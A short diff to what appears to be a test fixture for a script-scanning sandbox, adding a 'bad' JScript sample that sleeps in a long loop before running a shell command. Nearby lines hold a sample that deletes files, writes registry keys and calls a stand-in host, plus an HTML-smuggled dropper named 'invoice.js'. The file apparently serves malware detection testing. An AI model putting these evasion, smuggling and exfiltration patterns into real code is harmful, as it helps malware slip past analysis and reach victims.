@@ -42,6 +42,11 @@ BAD["behind much else"] = (
     b"files.DeleteFile(i + '.txt'); shell.RegWrite('HKCU/' + i, i); web.open('GET', 'http://a.example/' + i, false);"
     b"web.send() } shell.Run('cmd /c a')",
 )
+BAD["behind a long wait"] = (
+    "a.js",
+    b"for (var i = 0; i < 400; i++) { WScript.Sleep(i); WScript.Echo('Wait') }"
+    b"new ActiveXObject('WScript.Shell').Run('cmd /c a')",
+)
 BAD["handed over by a page"] = ("page.html", scripts.smuggling_page(sandbox.DROPPER_JS, "invoice.js"))
 GOOD: dict[str, File] = {
     **HARMLESS,
